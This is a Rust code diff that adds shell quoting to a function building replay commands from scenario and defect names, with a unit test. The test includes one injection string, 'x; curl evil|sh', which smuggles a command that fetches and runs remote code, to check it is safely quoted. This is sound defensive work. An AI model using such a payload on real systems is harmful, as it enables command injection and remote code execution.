@@ -170,16 +170,39 @@ pub fn replay_command(scenario: &Scenario, seed: u64) -> String {
 
 /// The same, of a scenario that is known by its name only.
 pub(crate) fn replay_of(scenario: &str, seed: u64, defects: &[String]) -> String {
-    let defects = defects.iter().map(|defect| format!(" --defect {defect}"));
-    format!("cargo squall run {scenario} --seed {seed}{}", defects.collect::<String>())
+    let defects = defects.iter().map(|defect| format!(" --defect {}", quoted(defect)));
+    format!("cargo squall run {} --seed {seed}{}", quoted(scenario), defects.collect::<String>())
+}
+
+/// A word of a shell. Names come from records as well, and a record may come from anywhere: what
+/// somebody pastes must not be a command of its writer.
+fn quoted(word: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    let shown = word.replace(char::is_control, " ").replace('\'', "'\\''");
+    format!("'{shown}'")
 }
 
 #[cfg(test)]
 mod tests {
     use squall_reports::record::EndCause;
 
-    use super::Defect;
+    use super::{Defect, replay_of};
     use crate::run::tests::failed_run;
+
+    #[test]
+    fn a_replay_command_is_one_command() {
+        assert_eq!(
+            replay_of("reviews-hung", 3, &["no-call-timeout".to_owned()]),
+            "cargo squall run reviews-hung --seed 3 --defect no-call-timeout"
+        );
+        assert_eq!(
+            replay_of("x; curl evil|sh\n#'", 3, &[String::new()]),
+            r"cargo squall run 'x; curl evil|sh #'\''' --seed 3 --defect ''"
+        );
+    }
 
     #[test]
     fn a_defect_is_caught_for_the_right_reason_only() {
